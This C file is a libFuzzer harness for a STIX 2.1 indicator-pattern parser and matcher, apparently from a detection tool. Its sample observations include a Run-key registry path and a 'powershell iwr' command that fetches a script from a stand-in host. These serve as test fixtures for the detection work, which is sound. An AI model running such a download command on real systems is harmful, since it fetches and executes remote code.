/*
 * libFuzzer target: the STIX 2.1 pattern parser (src/ioc/ioc_pattern.c) on raw bytes, then the
 * same bytes as the pattern of a one-indicator bundle through the loader, the prefilter build
 * and a match over a few observations (regex compilation and evaluation included).
 * Seeds: fuzz/corpus/ioc_pattern/ (patterns from the STIX 2.1 specification's examples and the
 * unit test's valid, invalid and unsupported cases).
 */
#include <stddef.h>
#include <stdint.h>

#include "common/common.h"
#include "ioc/ioc_internal.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    rh_ctx *ctx = NULL;
    struct rh_arena a;
    struct ioc_node *x;
    struct ioc_perr e;
    rh_ioc_set *s = NULL;
    rh_ioc_matcher *m = NULL;
    rh_buf b;
    size_t i;
    const rh_ioc_hit *hits;
    size_t nh;
    static const rh_ioc_obs obs[] = {
        {RH_IOC_OBS_REG_KEY, "HKU\\S-1-5-21-1\\Software\\Run", 27, "key"},
        {RH_IOC_OBS_VALUE_NAME, "Evil", 4, "name"},
        {RH_IOC_OBS_VALUE_DATA, "powershell iwr http://a.b.example/x.ps1 C:\\x\\y.exe", 50, "data"},
        {RH_IOC_OBS_HASHES, "MD5=0CC175B9C0F1B6A831C399E269772661", 36, "hashes"},
        {RH_IOC_OBS_IP, "198.51.100.7", 12, "ip"}};
    if (rh_ctx_create(NULL, &ctx) != RH_OK) {
        return 0;
    }
    rh_arena_init(&a, ctx, 4096, 1u << 24);
    (void)ioc_pattern_parse(&a, (const char *)data, size, &x, &e);
    rh_arena_free(&a);
    rh_buf_init(&b, ctx);
    rh_buf_lit(&b,
               "{\"type\":\"bundle\",\"objects\":[{\"type\":\"indicator\",\"id\":\"indicator--f\","
               "\"pattern_type\":\"stix\",\"pattern\":");
    rh_escape_append(&b, (const char *)data, size, RH_ESC_JSON);
    rh_buf_lit(&b, "}]}");
    if (rh_buf_status(&b) == RH_OK && rh_ioc_create(ctx, NULL, &s) == RH_OK) {
        (void)rh_ioc_load_mem(s, "fuzz", b.data, b.len);
        if (rh_ioc_finish(s) == RH_OK && rh_ioc_matcher_create(s, &m) == RH_OK) {
            (void)rh_ioc_match(m, obs, sizeof(obs) / sizeof(obs[0]), &hits, &nh);
            for (i = 0; i < nh; i++) {
                (void)strlen(hits[i].ind->id);
            }
        }
    }
    rh_ioc_matcher_destroy(m);
    rh_ioc_destroy(s);
    rh_buf_free(&b);
    rh_ctx_destroy(ctx);
    return 0;
}
